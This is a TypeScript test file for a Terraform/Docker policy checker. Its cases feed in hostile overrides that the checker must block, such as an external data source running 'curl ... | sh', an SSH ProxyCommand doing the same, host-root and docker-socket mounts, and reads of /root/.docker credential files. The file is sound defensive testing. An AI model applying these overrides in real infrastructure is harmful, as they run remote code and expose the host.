/**
 * The policy against structure it used not to look at: `dynamic` blocks in every shape and at every
 * depth (a JSON array at the top, nested in another block), and top-level blocks other than
 * resources and data sources (a module, a check with a scoped data source, import/moved/removed).
 * Every case must produce an error finding of the named rule; the legitimate forms still pass.
 */
import { Container } from "@cdktf/provider-docker/lib/container";
import { Service } from "@cdktf/provider-docker/lib/service";
import { TerraformHclModule, TerraformOutput, TerraformVariable } from "cdktf";
import { describe, expect, it } from "vitest";
import { blockingFindings } from "../../constructs/policy/policy-aspect";
import { container, findings, fixture, type Fixture } from "./fixtures";
import { service, swarmFixture, type SwarmFixture } from "./swarm-fixtures";

const ruleIds = (list: { ruleId: string }[]) => [...new Set(list.map((x) => x.ruleId))];

function expectCaughtIn(f: Fixture, ruleId: string, messagePart?: string) {
  const found = blockingFindings(findings(f));
  const why = JSON.stringify(
    found.map((x) => x.message),
    null,
    1,
  );
  expect(ruleIds(found), why).toContain(ruleId);
  if (messagePart !== undefined)
    expect(
      found.filter((x) => x.ruleId === ruleId).some((x) => x.message.includes(messagePart)),
      why,
    ).toBe(true);
}

describe("dynamic blocks in every shape and at every depth", () => {
  const containerAttacks: [string, (c: Container) => void, string][] = [
    [
      "a top-level dynamic written as a JSON array (devices, docker socket, published port)",
      (c) =>
        c.addOverride("dynamic", [
          {
            devices: {
              for_each: '${toset(["/dev/sda"])}',
              content: { host_path: "${devices.value}", container_path: "/dev/x", permissions: "rwm" },
            },
            volumes: { for_each: [1], content: { host_path: "/var/run/docker.sock", container_path: "/var/run/docker.sock" } },
            ports: { for_each: [1], content: { internal: 5432, external: 5432 } },
          },
        ]),
      "dynamic is a dynamic block (building devices, volumes, ports)",
    ],
    [
      "a top-level dynamic object with a literal for_each and plain content",
      (c) => c.addOverride("dynamic", { ports: { for_each: [1], content: { internal: 5432, external: 5432 } } }),
      "dynamic is a dynamic block (building ports)",
    ],
    [
      "mounts[].dynamic.volume_options binding / through the local driver",
      (c) =>
        c.addOverride("mounts", [
          {
            type: "volume",
            target: "/host",
            dynamic: {
              volume_options: {
                for_each: [1],
                content: { driver_name: "local", driver_options: { type: "none", o: "bind", device: "/" } },
              },
            },
          },
        ]),
      "mounts[0].dynamic is a dynamic block (building volume_options)",
    ],
    [
      "mounts[].dynamic.bind_options",
      (c) =>
        c.addOverride("mounts", [
          { type: "bind", source: "/", target: "/host", dynamic: { bind_options: { for_each: [1], content: { propagation: "rshared" } } } },
        ]),
      "mounts[0].dynamic is a dynamic block (building bind_options)",
    ],
    [
      "a nested dynamic written as a JSON array",
      (c) => c.addOverride("healthcheck.dynamic", [{ x: { for_each: [1], content: {} } }]),
      "healthcheck.dynamic is a dynamic block (building x)",
    ],
  ];
  it.each(containerAttacks)("container: %s", (_name, fn, messagePart) => {
    const f = fixture("prod");
    fn(container(f));
    expectCaughtIn(f, "no-unjudged-expressions", messagePart);
  });

  const serviceAttacks: [string, (s: Service) => void, string][] = [
    [
      "task_spec.container_spec.dynamic.mounts binding /",
      (s) =>
        s.addOverride("task_spec.container_spec.dynamic", {
          mounts: { for_each: [1], content: { type: "bind", source: "/", target: "/host" } },
        }),
      "task_spec.container_spec.dynamic is a dynamic block (building mounts)",
    ],
    [
      "endpoint_spec.dynamic.ports publishing 5432",
      (s) =>
        s.addOverride("endpoint_spec.dynamic", {
          ports: { for_each: [1], content: { target_port: 5432, published_port: 5432 } },
        }),
      "endpoint_spec.dynamic is a dynamic block (building ports)",
    ],
    [
      "task_spec.dynamic.networks_advanced joining the host network",
      (s) => s.addOverride("task_spec.dynamic", { networks_advanced: { for_each: [1], content: { name: "host" } } }),
      "task_spec.dynamic is a dynamic block (building networks_advanced)",
    ],
  ];
  it.each(serviceAttacks)("service: %s", (_name, fn, messagePart) => {
    const f: SwarmFixture = swarmFixture("prod");
    fn(service(f));
    expectCaughtIn(f, "no-unjudged-expressions", messagePart);
  });

  it("a dynamic block in a data source", () => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride("data.docker_network.n", { name: "x", dynamic: { ipam_config: { for_each: [1], content: {} } } });
    expectCaughtIn(f, "no-unjudged-expressions", "data source docker_network: dynamic is a dynamic block");
  });

  it("the written-out blocks (what the fix asks for) still pass", () => {
    const f = fixture("prod");
    container(f).addOverride("mounts", [{ type: "tmpfs", target: "/tmp" }]);
    expect(blockingFindings(findings(f))).toEqual([]);
    const s = swarmFixture("prod");
    service(s);
    expect(blockingFindings(findings(s))).toEqual([]);
  });
});

describe("top-level blocks other than resources and data sources", () => {
  it("a module from a git repository", () => {
    const f = fixture("prod");
    container(f);
    new TerraformHclModule(f.stack, "evil", { source: "git::https://example.com/evil.git?ref=v1" });
    expectCaughtIn(f, "known-resource-types", 'top-level "module" block module.evil');
  });

  it("a module written as an override", () => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride("module.evil", { source: "./evil" });
    expectCaughtIn(f, "known-resource-types", 'top-level "module" block module.evil');
  });

  it("a check block with a scoped external data source", () => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride("check.x", {
      data: { external: { run: { program: ["sh", "-c", "curl https://example.com/x | sh"] } } },
      assert: [{ condition: "${true}", error_message: "never" }],
    });
    expectCaughtIn(f, "known-resource-types", 'top-level "check" block check.x');
  });

  it.each([
    ["import", { to: "docker_container.x", id: "abc" }],
    ["moved", { from: "docker_container.a", to: "docker_container.b" }],
    ["removed", { from: "docker_container.a", lifecycle: { destroy: false } }],
    ["something_unknown", { x: 1 }],
  ])("a top-level %s block", (key, body) => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride(key, [body]);
    expectCaughtIn(f, "known-resource-types", `top-level "${key}" block`);
  });

  it("a stack with no resource at all is still checked", () => {
    const f = fixture("prod");
    f.stack.addOverride("module.evil", { source: "./evil" });
    const found = blockingFindings(findings(f));
    expect(found.map((x) => [x.ruleId, x.resourceType, x.resourceName])).toEqual([["known-resource-types", "module", "evil"]]);
  });

  it("a resource body written as a JSON array (HCL's JSON syntax accepts it)", () => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride("resource.docker_container.evil", [{ name: "evil", image: "alpine", privileged: true }]);
    expectCaughtIn(f, "known-resource-types", "resource.docker_container.evil is a JSON array");
  });

  it("a resource type written as a JSON array", () => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride("resource.docker_volume", [{ evil: { name: "evil", driver_opts: { device: "/" } } }]);
    expectCaughtIn(f, "known-resource-types", "resource.docker_volume is a JSON array");
  });

  it("the stack's own top-level blocks (terraform, provider, resource, data, variable, locals, output) still pass", () => {
    const f = fixture("prod");
    container(f);
    new TerraformVariable(f.stack, "v", { type: "string", default: "x" });
    new TerraformOutput(f.stack, "o", { value: "x" });
    f.stack.addOverride("locals", { l: "x" });
    f.stack.addOverride("data.docker_network.n", { name: "prod-backend" });
    const json = f.stack.toTerraform() as Record<string, unknown>;
    expect(Object.keys(json).sort()).toEqual(["//", "data", "locals", "output", "provider", "resource", "terraform", "variable"]);
    expect(blockingFindings(findings(f))).toEqual([]);
  });
});

describe("provider and terraform blocks", () => {
  it.each([
    [
      "ssh_opts with a ProxyCommand (a command run at apply)",
      "provider.docker.0.ssh_opts",
      ["-o", "ProxyCommand=sh -c 'curl x|sh'"],
      "sets ssh_opts",
    ],
    ["cert_path (host files read at apply)", "provider.docker.0.cert_path", "/root/.docker", "sets cert_path"],
    ["a host that is an expression", "provider.docker.0.host", '${file("/tmp/h")}', ".host is"],
    ["a host with a space and an option", "provider.docker.0.host", "ssh://u@h -oProxyCommand=x", ".host is"],
    [
      "a registry login from a config file",
      "provider.docker.0.registry_auth",
      [{ address: "ghcr.io", config_file: "/root/.docker/config.json" }],
      "sets config_file",
    ],
    ["another provider's configuration", "provider.external", [{}], 'the provider "external"'],
    ["a swapped provider source", "terraform.required_providers.docker.source", "evil/docker", 'must be "kreuzwerker/docker"'],
    ["a version range", "terraform.required_providers.docker.version", ">= 3.0", "pin an exact version"],
    [
      "another required provider",
      "terraform.required_providers.external",
      { source: "hashicorp/external", version: "2.3.4" },
      "a provider this project does not use",
    ],
    ["an unknown terraform setting", "terraform.experiments", ["x"], "terraform.experiments is set"],
  ])("%s", (_what, path, value, messagePart) => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride(path, value);
    expectCaughtIn(f, "known-resource-types", messagePart);
  });

  it("our provider settings still pass: an ssh:// engine, a registry login from variables", () => {
    const f = fixture("prod");
    container(f);
    f.stack.addOverride("provider.docker.0.host", "ssh://deploy@prod-1.internal:22");
    const u = new TerraformVariable(f.stack, "u", { type: "string", sensitive: true });
    const p = new TerraformVariable(f.stack, "p", { type: "string", sensitive: true });
    f.stack.addOverride("provider.docker.0.registry_auth", [{ address: "ghcr.io", username: u.stringValue, password: p.stringValue }]);
    expect(blockingFindings(findings(f))).toEqual([]);
  });
});
